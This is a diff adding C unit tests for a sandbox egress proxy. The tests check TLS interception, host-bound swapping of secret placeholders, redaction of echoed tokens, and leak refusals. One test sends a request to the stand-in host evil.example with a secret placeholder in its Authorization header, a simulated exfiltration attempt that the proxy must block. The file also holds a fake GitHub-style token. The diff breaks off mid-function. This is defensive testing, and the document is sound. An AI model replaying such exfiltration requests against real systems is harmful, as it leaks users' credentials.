@@ -15,14 +15,23 @@
 #include <string.h>
 
 #include <cmocka.h>
+#include <fcntl.h>
 #include <netinet/in.h>
 #include <poll.h>
+#include <sys/mman.h>
 #include <sys/socket.h>
+#include <sys/wait.h>
+#include <time.h>
 #include <unistd.h>
 
 #include "banned.h"
 #include "daemon/egress-sup.h"
 #include "daemon/ipc.h"
+#include "daemon/sandbox.h"
+#include "egress/leak.h"
+#include "egress/tls.h"
+#include "guest/egress.h"
+#include "secmem.h"
 
 #include "../unit/clienthello-vector.h"
 
@@ -1117,6 +1126,921 @@ static void test_empty_stream(void **state)
 	d_quiet();
 }
 
+/* ---- issue 13: inspected tunnels, secrets, the self-test host ---- */
+
+#define GH_VALUE "ghp_R3alTokenValue0123456789abcdef"
+#define GH_PLACEHOLDER "tkbox_GH_0123456789abcdef0123456789abcdef"
+
+/* The TLS ends the test plays: the box's client (trusting the box's CA) and the origin's server (a second CA). */
+static struct {
+	char dir[64], box_ca[96], origin_ca[96];
+	struct egress_ca *origin; /* the origin's own CA (the supervisor trusts it through upstream_ca) */
+	SSL_CTX *guest_ctx; /* the box's client context: the box's CA */
+	struct egress_tls *g, *o; /* the box's client, the origin's server */
+	struct buf gplain, oplain, tmp;
+	bool g_fin, g_closed, o_eof;
+	uint8_t g_close_reason;
+	uint32_t gid;
+	int ofd;
+} X;
+
+static void write_pem(const char *path, const char *pem)
+{
+	FILE *f = fopen(path, "w");
+
+	assert_non_null(f);
+	assert_int_equal(fputs(pem, f) >= 0, true);
+	assert_int_equal(fclose(f), 0);
+}
+
+/* The box's CA given to the proxy, and the supervisor's client context trusting a second CA (the origin's). */
+static int setup_tls(void **state)
+{
+	static const char *const permitted[] = { "example.com", EGRESS_SELFTEST_HOST };
+	struct egress_ca *ca = NULL;
+	SSL_CTX *client = NULL;
+	char *pem = NULL;
+
+	setup(state);
+	memset(&X, 0, sizeof(X));
+	X.ofd = -1;
+	(void)snprintf(X.dir, sizeof(X.dir), "/tmp/tkbox-egress-sup-XXXXXX");
+	assert_non_null(mkdtemp(X.dir));
+	(void)snprintf(X.box_ca, sizeof(X.box_ca), "%s/box-ca.pem", X.dir);
+	(void)snprintf(X.origin_ca, sizeof(X.origin_ca), "%s/origin-ca.pem", X.dir);
+	assert_int_equal(egress_ca_new("box1", permitted, ARRAY_SIZE(permitted), 3600, &ca), 0);
+	assert_int_equal(egress_ca_cert_pem(ca, &pem), 0);
+	write_pem(X.box_ca, pem);
+	free(pem);
+	assert_int_equal(egress_ca_new("origin", permitted, 1, 3600, &X.origin), 0);
+	assert_int_equal(egress_ca_cert_pem(X.origin, &pem), 0);
+	write_pem(X.origin_ca, pem);
+	free(pem);
+	assert_int_equal(egress_tls_client_ctx(X.origin_ca, &client), 0);
+	assert_int_equal(egress_tls_client_ctx(X.box_ca, &X.guest_ctx), 0);
+	egress_sup_tls(T.e, ca, client);
+	assert_int_equal(buf_init(&X.gplain, (size_t)1 << 20, 0), 0);
+	assert_int_equal(buf_init(&X.oplain, (size_t)1 << 20, 0), 0);
+	assert_int_equal(buf_init(&X.tmp, (size_t)1 << 20, 0), 0);
+	return 0;
+}
+
+static int teardown_tls(void **state)
+{
+	egress_tls_free(X.g);
+	egress_tls_free(X.o);
+	SSL_CTX_free(X.guest_ctx);
+	egress_ca_free(X.origin);
+	buf_release(&X.gplain);
+	buf_release(&X.oplain);
+	buf_release(&X.tmp);
+	if (X.ofd >= 0) {
+		(void)close(X.ofd);
+	}
+	(void)unlink(X.box_ca);
+	(void)unlink(X.origin_ca);
+	(void)rmdir(X.dir);
+	return teardown(state);
+}
+
+/* One frame for the guest if one is there (no waiting); WINDOW is taken by the guest's tracker. */
+static bool g_poll(struct egress_frame *ret)
+{
+	const char *why = NULL;
+	uint8_t rb[65536];
+	ssize_t n;
+
+	for (;;) {
+		while (buf_len(&T.graw) > 0) {
+			size_t used = 0;
+			uint8_t type;
+			int r = frame_decoder_feed(&T.gdec, buf_ptr(&T.graw), buf_len(&T.graw), &used);
+			assert_true(r >= 0);
+			assert_int_equal(buf_consume(&T.graw, used), 0);
+			if (r == 1) {
+				buf_reset(&T.gpay);
+				assert_int_equal(frame_decoder_take(&T.gdec, &type, &T.gpay), 0);
+				assert_int_equal(egress_mux_receive(&T.gm, EGRESS_FROM_HOST, type, buf_ptr(&T.gpay),
+								    buf_len(&T.gpay), ret, &why),
+						 0);
+				if (ret->type != EGRESS_WINDOW) {
+					return true;
+				}
+			}
+		}
+		n = recv(T.port[1], rb, sizeof(rb), MSG_DONTWAIT);
+		if (n <= 0) {
+			return false;
+		}
+		assert_int_equal(buf_put(&T.graw, rb, (size_t)n), 0);
+	}
+}
+
+/* One step of the world: the proxy's turn, the box's TLS client over the stream, the origin's TLS server. */
+static void step(void)
+{
+	struct egress_frame f;
+	uint8_t rb[65536];
+	ssize_t n;
+
+	(void)turn();
+	if (X.g) {
+		buf_reset(&X.tmp);
+		assert_true(egress_tls_take(X.g, &X.tmp) >= 0);
+		if (buf_len(&X.tmp) > 0 && !X.g_closed) {
+			g_data(X.gid, buf_ptr(&X.tmp), buf_len(&X.tmp));
+		}
+	}
+	while (g_poll(&f)) {
+		assert_int_equal(f.id, X.gid);
+		if (f.type == EGRESS_DATA && X.g) {
+			assert_int_equal(egress_tls_put(X.g, f.data, f.len), 0);
+		} else if (f.type == EGRESS_DATA) {
+			assert_int_equal(buf_put(&X.gplain, f.data, f.len), 0); /* before the TLS client exists */
+		} else if (f.type == EGRESS_FIN) {
+			X.g_fin = true;
+			if (X.g) {
+				egress_tls_eof(X.g);
+			}
+		} else if (f.type == EGRESS_CLOSE) {
+			X.g_closed = true;
+			X.g_close_reason = f.reason;
+		}
+	}
+	if (X.g) {
+		(void)egress_tls_read(X.g, &X.gplain, buf_avail(&X.gplain));
+	}
+	if (X.o && X.ofd >= 0) {
+		buf_reset(&X.tmp);
+		assert_true(egress_tls_take(X.o, &X.tmp) >= 0);
+		if (buf_len(&X.tmp) > 0) {
+			o_write(X.ofd, buf_ptr(&X.tmp), buf_len(&X.tmp));
+		}
+		while ((n = recv(X.ofd, rb, sizeof(rb), MSG_DONTWAIT)) > 0) {
+			assert_int_equal(egress_tls_put(X.o, rb, (size_t)n), 0);
+		}
+		if (n == 0 && !X.o_eof) {
+			X.o_eof = true;
+			egress_tls_eof(X.o);
+		}
+		(void)egress_tls_read(X.o, &X.oplain, buf_avail(&X.oplain));
+	}
+}
+
+static bool has(const struct buf *b, const char *s)
+{
+	return buf_len(b) > 0 && memmem(buf_ptr(b), buf_len(b), s, strlen(s)) != NULL;
+}
+
+/* Steps until what holds s (the box's or the origin's plaintext) does. */
+static void until_has(const struct buf *b, const char *s)
+{
+	for (int i = 0; i < TURNS && !has(b, s); i++) {
+		step();
+	}
+	if (!has(b, s)) {
+		fail_msg("never came: %s", s);
+	}
+}
+
+/* The daemon sends the box's secrets: GH bound to example.com in Authorization, the value in a sealed memfd. */
+static void d_secrets(void)
+{
+	char *hosts[] = { "example.com", NULL };
+	struct supmsg_secret sec = { .name = "GH",
+				     .placeholder = GH_PLACEHOLDER,
+				     .header = "Authorization",
+				     .hosts = hosts,
+				     .n_hosts = 1,
+				     .len = (int64_t)strlen(GH_VALUE) };
+	struct supmsg m = { .op = SUPMSG_SECRETS, .secrets = &sec, .n_secrets = 1 };
+	int fd = memfd_create("secrets", MFD_CLOEXEC | MFD_ALLOW_SEALING);
+
+	assert_true(fd >= 0);
+	assert_int_equal(write(fd, GH_VALUE, strlen(GH_VALUE)), (ssize_t)strlen(GH_VALUE));
+	assert_int_equal(fcntl(fd, F_ADD_SEALS, F_SEAL_WRITE | F_SEAL_SHRINK | F_SEAL_GROW | F_SEAL_SEAL), 0);
+	d_answer(&m, fd);
+}
+
+/* An inspected CONNECT example.com:443 dialled to the origin: the box's TLS client and the origin's server on it. */
+static int64_t inspected(uint32_t id, struct egress_ca *origin_ca)
+{
+	struct supmsg m = { .op = SUPMSG_EGRESS_DIAL, .url = "https://example.com:443", .inspect = true };
+	SSL_CTX *octx = NULL;
+	int64_t conn = ask(id, CONNECT_EXAMPLE, true, "example.com", 443);
+
+	X.gid = id;
+	m.conn = conn;
+	d_answer(&m, d_dial(&X.ofd));
+	until_has(&X.gplain, ESTABLISHED);
+	assert_int_equal(buf_len(&X.gplain), strlen(ESTABLISHED));
+	buf_reset(&X.gplain);
+	assert_int_equal(egress_ca_server_ctx(origin_ca, "example.com", &octx), 0);
+	assert_int_equal(egress_tls_server_new(octx, &X.o), 0);
+	assert_int_equal(egress_tls_client_new(X.guest_ctx, "example.com", &X.g), 0);
+	for (int i = 0; i < TURNS && !(egress_tls_established(X.g) && egress_tls_established(X.o)); i++) {
+		step();
+	}
+	assert_true(egress_tls_established(X.o));
+	assert_true(egress_tls_established(X.g));
+	return conn;
+}
+
+static void g_send(const char *s)
+{
+	assert_int_equal(egress_tls_write(X.g, (const uint8_t *)s, strlen(s)), 0);
+	step();
+}
+
+static void o_send(const char *s)
+{
+	assert_int_equal(egress_tls_write(X.o, (const uint8_t *)s, strlen(s)), 0);
+	step();
+}
+
+/* Swapped only after secret_ok, the value reaches the origin in the bound header, and its echo comes back redacted. */
+static void test_inspect_swap(void **state)
+{
+	static const char req[] =
+		"GET /user HTTP/1.1\r\nHost: example.com\r\nAuthorization: Bearer " GH_PLACEHOLDER "\r\n\r\n";
+	char resp[512];
+	struct supmsg m;
+	struct supmsg ok = { .op = SUPMSG_SECRET_OK, .ok = true };
+	int64_t conn;
+	(void)state;
+
+	d_secrets();
+	conn = inspected(1, X.origin);
+	g_send(req);
+	d_recv(&m, SUPMSG_SECRET_USE);
+	assert_int_equal(m.conn, conn);
+	assert_string_equal(m.secret, "GH");
+	assert_string_equal(m.host, "example.com");
+	supmsg_release(&m);
+	/* Not a byte of the request before the use is kept. */
+	for (int i = 0; i < 20; i++) {
+		step();
+	}
+	assert_int_equal(buf_len(&X.oplain), 0);
+	ok.conn = conn;
+	d_answer(&ok, -1);
+	until_has(&X.oplain, "\r\n\r\n");
+	assert_true(has(&X.oplain, "GET /user HTTP/1.1\r\n"));
+	assert_true(has(&X.oplain, "Authorization: Bearer " GH_VALUE "\r\n"));
+	assert_false(has(&X.oplain, GH_PLACEHOLDER));
+	/* The origin echoes the value: the box gets the response with the value redacted, same length. */
+	(void)snprintf(resp, sizeof(resp), "HTTP/1.1 200 OK\r\nContent-Length: %zu\r\n\r\n{\"token\":\"%s\"}",
+		       strlen(GH_VALUE) + 12, GH_VALUE);
+	o_send(resp);
+	until_has(&X.gplain, "{\"token\":\"");
+	for (int i = 0; i < TURNS && buf_len(&X.gplain) < strlen(resp); i++) {
+		step();
+	}
+	assert_int_equal(buf_len(&X.gplain), strlen(resp));
+	assert_false(has(&X.gplain, GH_VALUE));
+	assert_false(has(&X.gplain, "ghp_R3al"));
+	assert_true(has(&X.gplain, "HTTP/1.1 200 OK\r\n"));
+	/* The box closes: close_notify both ways, then the end with the wire bytes each way. */
+	egress_tls_close(X.g);
+	step();
+	g_simple(EGRESS_FIN, 1, 0);
+	for (int i = 0; i < TURNS && !X.o_eof; i++) {
+		step();
+	}
+	assert_true(X.o_eof);
+	egress_tls_close(X.o);
+	step();
+	(void)close(X.ofd);
+	X.ofd = -1;
+	d_recv(&m, SUPMSG_EGRESS_DONE);
+	assert_int_equal(m.conn, conn);
+	assert_true(m.bytes_up > (int64_t)strlen(req));
+	assert_true(m.bytes_down > (int64_t)strlen(resp));
+	assert_null(m.rule);
+	supmsg_release(&m);
+	assert_int_equal(T.rc, 0);
+}
+
+/* The placeholder in another header: 403 secret-leak through the box's TLS, secret_leak told, nothing sent. */
+static void test_inspect_leak(void **state)
+{
+	struct supmsg m;
+	int64_t conn;
+	(void)state;
+
+	d_secrets();
+	conn = inspected(3, X.origin);
+	g_send("GET / HTTP/1.1\r\nHost: example.com\r\nX-Token: " GH_PLACEHOLDER "\r\n\r\n");
+	d_recv(&m, SUPMSG_SECRET_LEAK);
+	assert_int_equal(m.conn, conn);
+	assert_string_equal(m.secret, "GH");
+	assert_string_equal(m.host, "example.com");
+	assert_non_null(m.reason);
+	assert_null(strstr(m.reason, GH_PLACEHOLDER));
+	supmsg_release(&m);
+	until_has(&X.gplain, "Tkbox-Rule: secret-leak\r\n");
+	assert_true(has(&X.gplain, "HTTP/1.1 403 Forbidden\r\n"));
+	d_recv(&m, SUPMSG_EGRESS_DONE);
+	assert_int_equal(m.conn, conn);
+	assert_string_equal(m.rule, "secret-leak");
+	supmsg_release(&m);
+	for (int i = 0; i < TURNS && !X.g_closed; i++) {
+		step();
+	}
+	assert_true(X.g_closed);
+	assert_int_equal(X.g_close_reason, EGRESS_CLOSE_REFUSED);
+	assert_int_equal(buf_len(&X.oplain), 0); /* the origin got nothing of the request */
+}
+
+/* An origin the supervisor does not trust: the box gets 502 upstream-tls with OpenSSL's reason, through its TLS. */
+static void test_inspect_upstream_untrusted(void **state)
+{
+	static const char *const names[] = { "example.com" };
+	struct egress_ca *rogue = NULL;
+	struct supmsg m = { .op = SUPMSG_EGRESS_DIAL, .url = "https://example.com:443", .inspect = true };
+	SSL_CTX *octx = NULL;
+	(void)state;
+
+	d_secrets();
+	assert_int_equal(egress_ca_new("rogue", names, 1, 3600, &rogue), 0);
+	X.gid = 5;
+	m.conn = ask(5, CONNECT_EXAMPLE, true, "example.com", 443);
+	d_answer(&m, d_dial(&X.ofd));
+	until_has(&X.gplain, ESTABLISHED);
+	buf_reset(&X.gplain);
+	assert_int_equal(egress_ca_server_ctx(rogue, "example.com", &octx), 0);
+	assert_int_equal(egress_tls_server_new(octx, &X.o), 0);
+	assert_int_equal(egress_tls_client_new(X.guest_ctx, "example.com", &X.g), 0);
+	until_has(&X.gplain, "Tkbox-Rule: upstream-tls\r\n");
+	assert_true(has(&X.gplain, "HTTP/1.1 502 Bad Gateway\r\n"));
+	assert_true(has(&X.gplain, "certificate verify failed"));
+	d_recv(&m, SUPMSG_EGRESS_DONE);
+	assert_string_equal(m.rule, "upstream-tls");
+	assert_non_null(strstr(m.error, "certificate verify failed"));
+	supmsg_release(&m);
+	egress_ca_free(rogue);
+}
+
+/*
+ * An inspected dial before the secrets arrived is refused (fail closed), and
+ * nothing reaches the origin. The monitors refuse such a dial already; they
+ * are told the secrets went so that the proxy's own check is what is tested.
+ */
+static void test_inspect_before_secrets(void **state)
+{
+	struct supmsg m = { .op = SUPMSG_EGRESS_DIAL, .url = "https://example.com:443", .inspect = true };
+	char text[1024];
+	uint8_t b[1];
+	bool eof;
+	int origin;
+	(void)state;
+
+	T.mon_d.secrets_sent = T.mon_sup.secrets_sent = true;
+	m.conn = ask(7, CONNECT_EXAMPLE, true, "example.com", 443);
+	d_answer(&m, d_dial(&origin));
+	assert_int_equal(g_collect(7, text, sizeof(text), NULL, NULL), EGRESS_CLOSE);
+	assert_non_null(strstr(text, "HTTP/1.1 503 "));
+	assert_non_null(strstr(text, "Tkbox-Rule: secrets-not-loaded\r\n"));
+	expect_done(m.conn, 0, 0, "secrets-not-loaded", "not loaded yet");
+	assert_int_equal(o_read(origin, b, 1, &eof), 0);
+	assert_true(eof);
+	(void)close(origin);
+}
+
+/*
+ * A stop while a swap waits: the swapped request never reaches the origin;
+ * the conn's end is told after secret_ok (the monitor's order).
+ */
+static void test_inspect_stop_drops_swap(void **state)
+{
+	struct supmsg m, ok = { .op = SUPMSG_SECRET_OK, .ok = true };
+	int64_t conn;
+	(void)state;
+
+	d_secrets();
+	conn = inspected(9, X.origin);
+	g_send("GET / HTTP/1.1\r\nHost: example.com\r\nAuthorization: " GH_PLACEHOLDER "\r\n\r\n");
+	d_recv(&m, SUPMSG_SECRET_USE);
+	supmsg_release(&m);
+	egress_sup_stop(T.e);
+	T.mon_sup.state = T.mon_d.state = SUPMON_STOPPING;
+	for (int i = 0; i < 20; i++) {
+		step();
+	}
+	d_quiet();
+	ok.conn = conn;
+	d_answer(&ok, -1);
+	d_recv(&m, SUPMSG_EGRESS_DONE);
+	assert_int_equal(m.conn, conn);
+	assert_non_null(strstr(m.error, "stopping"));
+	supmsg_release(&m);
+	assert_int_equal(buf_len(&X.oplain), 0);
+	assert_true(X.o_eof); /* closed with nothing after the handshake */
+}
+
+/* The self-test host is served by the proxy: TLS with the box's CA, 204, then the result once; never asked. */
+static void test_selftest(void **state)
+{
+	char text[1024], head[256];
+	struct timespec ts;
+	struct supmsg m;
+	(void)state;
+
+	X.gid = 11;
+	g_open(11);
+	g_expect(EGRESS_OPEN_OK, 11, NULL);
+	g_str(11, "CONNECT tkbox-selftest.invalid:443 HTTP/1.1\r\nHost: tkbox-selftest.invalid:443\r\n\r\n");
+	until_has(&X.gplain, ESTABLISHED);
+	buf_reset(&X.gplain);
+	assert_int_equal(egress_tls_client_new(X.guest_ctx, EGRESS_SELFTEST_HOST, &X.g), 0);
+	for (int i = 0; i < TURNS && !egress_tls_established(X.g); i++) {
+		step();
+	}
+	assert_true(egress_tls_established(X.g));
+	g_send("GET /curl HTTP/1.1\r\nHost: tkbox-selftest.invalid\r\nUser-Agent: curl\r\n\r\n");
+	until_has(&X.gplain, "\r\n\r\n");
+	assert_true(has(&X.gplain, "HTTP/1.1 204 No Content\r\n"));
+	for (int i = 0; i < TURNS && !X.g_closed; i++) {
+		step();
+	}
+	assert_int_equal(X.g_close_reason, EGRESS_CLOSE_DONE);
+	/* The result: ran as the guest says, trusted what reached the proxy over TLS, the clock's offset. */
+	(void)clock_gettime(CLOCK_REALTIME, &ts);
+	(void)snprintf(head, sizeof(head),
+		       "GET http://tkbox-selftest.invalid/done?ran=curl,python3&clock_ms=%lld HTTP/1.1\r\n"
+		       "Host: tkbox-selftest.invalid\r\n\r\n",
+		       (long long)ts.tv_sec * 1000 + ts.tv_nsec / 1000000 + 3600000);
+	g_open(12);
+	g_expect(EGRESS_OPEN_OK, 12, NULL);
+	g_str(12, head);
+	d_recv(&m, SUPMSG_SELFTEST);
+	assert_int_equal(m.n_ran, 2);
+	assert_string_equal(m.ran[0], "curl");
+	assert_string_equal(m.ran[1], "python3");
+	assert_int_equal(m.n_trusted, 1);
+	assert_string_equal(m.trusted[0], "curl");
+	assert_true(m.clock_offset_ms > 0 && m.clock_offset_ms <= 3600000); /* the box's clock is an hour ahead */
+	supmsg_release(&m);
+	assert_int_equal(g_collect(12, text, sizeof(text), NULL, NULL), EGRESS_CLOSE);
+	assert_string_equal(text, "HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n");
+	/* A second result is refused. */
+	g_open(13);
+	g_expect(EGRESS_OPEN_OK, 13, NULL);
+	g_str(13, head);
+	assert_int_equal(g_collect(13, text, sizeof(text), NULL, NULL), EGRESS_CLOSE);
+	assert_non_null(strstr(text, "HTTP/1.1 403 Forbidden\r\n"));
+	assert_non_null(strstr(text, "Tkbox-Rule: selftest\r\n"));
+	d_recv(&m, SUPMSG_EGRESS_REFUSED);
+	assert_string_equal(m.rule, "selftest");
+	supmsg_release(&m);
+	d_quiet(); /* no egress_open ever */
+}
+
+/* Without a CA the self-test host is refused over CONNECT; a malformed result is refused too. */
+static void test_selftest_no_ca(void **state)
+{
+	static const char *const bad[] = {
+		"GET http://tkbox-selftest.invalid/done?ran=curl,curl&clock_ms=1 HTTP/1.1\r\nHost: "
+		"tkbox-selftest.invalid\r\n\r\n",
+		"GET http://tkbox-selftest.invalid/done?ran=CURL&clock_ms=1 HTTP/1.1\r\nHost: "
+		"tkbox-selftest.invalid\r\n\r\n",
+		"GET http://tkbox-selftest.invalid/done?ran=curl&clock_ms=-1 HTTP/1.1\r\nHost: "
+		"tkbox-selftest.invalid\r\n\r\n",
+		"GET http://tkbox-selftest.invalid/done?clock_ms=1&ran=curl HTTP/1.1\r\nHost: "
+		"tkbox-selftest.invalid\r\n\r\n",
+		"GET http://tkbox-selftest.invalid/other HTTP/1.1\r\nHost: tkbox-selftest.invalid\r\n\r\n",
+	};
+	char text[1024];
+	struct supmsg m;
+	(void)state;
+
+	g_open(14);
+	g_expect(EGRESS_OPEN_OK, 14, NULL);
+	g_str(14, "CONNECT tkbox-selftest.invalid:443 HTTP/1.1\r\n\r\n");
+	assert_int_equal(g_collect(14, text, sizeof(text), NULL, NULL), EGRESS_CLOSE);
+	assert_non_null(strstr(text, "HTTP/1.1 403 Forbidden\r\n"));
+	assert_non_null(strstr(text, "Tkbox-Rule: selftest\r\n"));
+	assert_non_null(strstr(text, "has no CA"));
+	d_recv(&m, SUPMSG_EGRESS_REFUSED);
+	supmsg_release(&m);
+	for (size_t i = 0; i < ARRAY_SIZE(bad); i++) {
+		g_open(15 + (uint32_t)i);
+		g_expect(EGRESS_OPEN_OK, 15 + (uint32_t)i, NULL);
+		g_str(15 + (uint32_t)i, bad[i]);
+		assert_int_equal(g_collect(15 + (uint32_t)i, text, sizeof(text), NULL, NULL), EGRESS_CLOSE);
+		assert_non_null(strstr(text, "Tkbox-Rule: selftest\r\n"));
+		d_recv(&m, SUPMSG_EGRESS_REFUSED);
+		supmsg_release(&m);
+	}
+	d_quiet();
+}
+
+/*
+ * A box with secrets: the placeholder in an absolute-form head is a leak
+ * refused before the daemon is asked (no approval, no dial), the reference
+ * demo's case (no swap ever happens over plain HTTP).
+ */
+static void test_absolute_leak(void **state)
+{
+	char text[2048];
+	struct supmsg m;
+	(void)state;
+
+	d_secrets();
+	g_open(31);
+	g_expect(EGRESS_OPEN_OK, 31, NULL);
+	g_str(31, "GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\nAuthorization: Bearer " GH_PLACEHOLDER
+		  "\r\n\r\n");
+	d_recv(&m, SUPMSG_SECRET_LEAK);
+	assert_int_equal(m.conn, 0);
+	assert_string_equal(m.secret, "GH");
+	assert_string_equal(m.host, "evil.example");
+	assert_non_null(strstr(m.reason, "header Authorization"));
+	assert_null(strstr(m.reason, GH_PLACEHOLDER));
+	supmsg_release(&m);
+	assert_int_equal(g_collect(31, text, sizeof(text), NULL, NULL), EGRESS_CLOSE);
+	assert_non_null(strstr(text, "HTTP/1.1 403 Forbidden\r\n"));
+	assert_non_null(strstr(text, "Tkbox-Rule: secret-leak\r\n"));
+	assert_non_null(strstr(text, "the request to evil.example carried the placeholder of GH (raw) in header "
+				     "Authorization"));
+	assert_non_null(strstr(text, "tkbox run --secret GH=...@evil.example"));
+	assert_null(strstr(text, GH_PLACEHOLDER));
+	d_quiet(); /* never asked: no egress_open */
+}
+
+/* The placeholder in an absolute-form request's body (after the dial): the inspector refuses it before it goes. */
+static void test_absolute_body_leak(void **state)
+{
+	static const char body[] = "{\"token\":\"" GH_PLACEHOLDER "\"}";
+	char text[2048], head[256];
+	uint8_t got[4096];
+	struct supmsg m;
+	bool eof;
+	size_t n;
+	int origin;
+	int64_t conn;
+	(void)state;
+
+	d_secrets();
+	(void)snprintf(head, sizeof(head),
+		       "POST http://example.com/api HTTP/1.1\r\nHost: example.com\r\nContent-Length: %zu\r\n\r\n",
+		       strlen(body));
+	conn = ask(32, head, false, "example.com", 80);
+	d_send_dial(conn, "http://example.com:80", false, &origin);
+	g_str(32, body);
+	d_recv(&m, SUPMSG_SECRET_LEAK);
+	assert_int_equal(m.conn, conn);
+	assert_string_equal(m.secret, "GH");
+	supmsg_release(&m);
+	assert_int_equal(g_collect(32, text, sizeof(text), NULL, NULL), EGRESS_CLOSE);
+	assert_non_null(strstr(text, "Tkbox-Rule: secret-leak\r\n"));
+	expect_done(conn, -1, -1, "secret-leak", "GH");
+	n = o_read(origin, got, sizeof(got) - 1, &eof);
+	assert_true(eof);
+	got[n] = '\0';
+	assert_null(strstr((char *)got, GH_PLACEHOLDER)); /* what went (if any) holds no whole placeholder */
+	(void)close(origin);
+}
+
+/* The box's TLS client names another server than its CONNECT: the tunnel is refused before any TLS answer. */
+static void test_inspect_sni_mismatch(void **state)
+{
+	struct supmsg m = { .op = SUPMSG_EGRESS_DIAL, .url = "https://example.com:443", .inspect = true };
+	(void)state;
+
+	d_secrets();
+	X.gid = 33;
+	m.conn = ask(33, CONNECT_EXAMPLE, true, "example.com", 443);
+	d_answer(&m, d_dial(&X.ofd));
+	until_has(&X.gplain, ESTABLISHED);
+	buf_reset(&X.gplain);
+	assert_int_equal(egress_tls_client_new(X.guest_ctx, "other.example", &X.g), 0);
+	for (int i = 0; i < TURNS && !X.g_closed; i++) {
+		step();
+	}
+	assert_true(X.g_closed);
+	assert_int_equal(X.g_close_reason, EGRESS_CLOSE_REFUSED);
+	assert_false(egress_tls_established(X.g));
+	expect_done(m.conn, -1, 0, "sni-mismatch", "example.com:443 refused");
+}
+
+/* A model host: each exchange is told as model_call with the provider's counts. */
+static void test_inspect_model_call(void **state)
+{
+	static const char body[] = "{\"model\":\"claude-test-1\",\"usage\":{\"input_tokens\":12,\"output_tokens\":34}}";
+	struct supmsg m = {
+		.op = SUPMSG_EGRESS_DIAL, .url = "https://example.com:443", .inspect = true, .model_host = true
+	};
+	SSL_CTX *octx = NULL;
+	char resp[512];
+	(void)state;
+
+	d_secrets();
+	X.gid = 35;
+	m.conn = ask(35, CONNECT_EXAMPLE, true, "example.com", 443);
+	d_answer(&m, d_dial(&X.ofd));
+	until_has(&X.gplain, ESTABLISHED);
+	buf_reset(&X.gplain);
+	assert_int_equal(egress_ca_server_ctx(X.origin, "example.com", &octx), 0);
+	assert_int_equal(egress_tls_server_new(octx, &X.o), 0);
+	assert_int_equal(egress_tls_client_new(X.guest_ctx, "example.com", &X.g), 0);
+	g_send("POST /v1/messages HTTP/1.1\r\nHost: example.com\r\nContent-Length: 2\r\n\r\n{}");
+	until_has(&X.oplain, "{}");
+	(void)snprintf(resp, sizeof(resp),
+		       "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %zu\r\n\r\n%s",
+		       strlen(body), body);
+	o_send(resp);
+	until_has(&X.gplain, "output_tokens");
+	{
+		struct supmsg c;
+		d_recv(&c, SUPMSG_MODEL_CALL);
+		assert_int_equal(c.conn, m.conn);
+		assert_string_equal(c.host, "example.com");
+		assert_string_equal(c.method, "POST");
+		assert_string_equal(c.path, "/v1/messages");
+		assert_int_equal(c.status, 200);
+		assert_string_equal(c.model, "claude-test-1");
+		assert_int_equal(c.input_tokens, 12);
+		assert_int_equal(c.output_tokens, 34);
+		supmsg_release(&c);
+	}
+}
+
+/*
+ * What the supervisor does with TLS and secrets once confined (issue 13):
+ * the CA and the origins' trust loaded before sandbox_apply(SANDBOX_SUPERVISOR)
+ * as supervisor.c does, then under the allowlist filter and Landlock: a leaf
+ * minted, a verified handshake both ways, a value read from a memfd into
+ * secmem, the leak set and a redaction. A syscall the filter lacks kills the
+ * child (SIGSYS).
+ */
+static int confined_child(void)
+{
+	static const char *const names[] = { "example.com" };
+	struct egress_ca *ca = NULL, *made = NULL;
+	struct egress_tls *srv = NULL, *cli = NULL;
+	struct egress_leak_set *leak = NULL;
+	struct egress_secret sec = { .name = "GH", .placeholder = GH_PLACEHOLDER, .header = "Authorization" };
+	struct sandbox_report rep;
+	SSL_CTX *client = NULL, *sctx = NULL;
+	char *cert = NULL, *key = NULL;
+	struct buf a, b, pl;
+	uint8_t echo[64];
+	int fd = memfd_create("secrets", MFD_CLOEXEC);
+
+	if (fd < 0 || write(fd, GH_VALUE, strlen(GH_VALUE)) != (ssize_t)strlen(GH_VALUE)) {
+		return 10;
+	}
+	if (OPENSSL_init_ssl(OPENSSL_INIT_LOAD_CONFIG, NULL) != 1 || egress_ca_new("box", names, 1, 3600, &made) < 0 ||
+	    egress_ca_cert_pem(made, &cert) < 0 || egress_ca_key_pem(made, &key) < 0 ||
+	    egress_ca_load(cert, key, &ca) < 0) {
+		return 11;
+	}
+	write_pem(X.box_ca, cert);
+	if (egress_tls_client_ctx(X.box_ca, &client) < 0 || buf_init(&a, (size_t)1 << 20, 0) < 0 ||
+	    buf_init(&b, (size_t)1 << 20, 0) < 0 || buf_init(&pl, (size_t)1 << 20, 0) < 0) {
+		return 12;
+	}
+	if (sandbox_apply(SANDBOX_SUPERVISOR, X.dir, &rep) < 0 || !rep.seccomp || !rep.allowlist) {
+		return 13;
+	}
+	/* Confined from here on. */
+	if (egress_ca_server_ctx(ca, "example.com", &sctx) < 0 || egress_tls_server_new(sctx, &srv) < 0 ||
+	    egress_tls_client_new(client, "example.com", &cli) < 0) {
+		return 14;
+	}
+	for (int i = 0; i < 20 && !(egress_tls_established(srv) && egress_tls_established(cli)); i++) {
+		buf_reset(&a);
+		buf_reset(&b);
+		if (egress_tls_read(cli, &pl, 4096) < 0 || egress_tls_take(cli, &a) < 0 ||
+		    egress_tls_put(srv, buf_ptr(&a), buf_len(&a)) < 0 || egress_tls_read(srv, &pl, 4096) < 0 ||
+		    egress_tls_take(srv, &b) < 0 || egress_tls_put(cli, buf_ptr(&b), buf_len(&b)) < 0) {
+			return 15;
+		}
+	}
+	if (!egress_tls_established(srv) || !egress_tls_established(cli)) {
+		return 16;
+	}
+	sec.value = secmem_alloc(strlen(GH_VALUE));
+	if (!sec.value || pread(fd, sec.value, strlen(GH_VALUE), 0) != (ssize_t)strlen(GH_VALUE)) {
+		return 17;
+	}
+	sec.value_len = strlen(GH_VALUE);
+	memcpy(echo, GH_VALUE, strlen(GH_VALUE));
+	if (egress_leak_set_new(&sec, 1, &leak) < 0 || egress_leak_redact(leak, echo, strlen(GH_VALUE)) != 1) {
+		return 18;
+	}
+	egress_leak_set_free(leak);
+	secmem_free(sec.value, sec.value_len);
+	egress_tls_free(srv);
+	egress_tls_free(cli);
+	egress_ca_free(ca);
+	egress_ca_free(made);
+	SSL_CTX_free(client);
+	explicit_bzero(key, strlen(key));
+	free(key);
+	free(cert);
+	return 0;
+}
+
+static void test_confined_tls(void **state)
+{
+	int st = 0;
+	pid_t pid = fork();
+	(void)state;
+
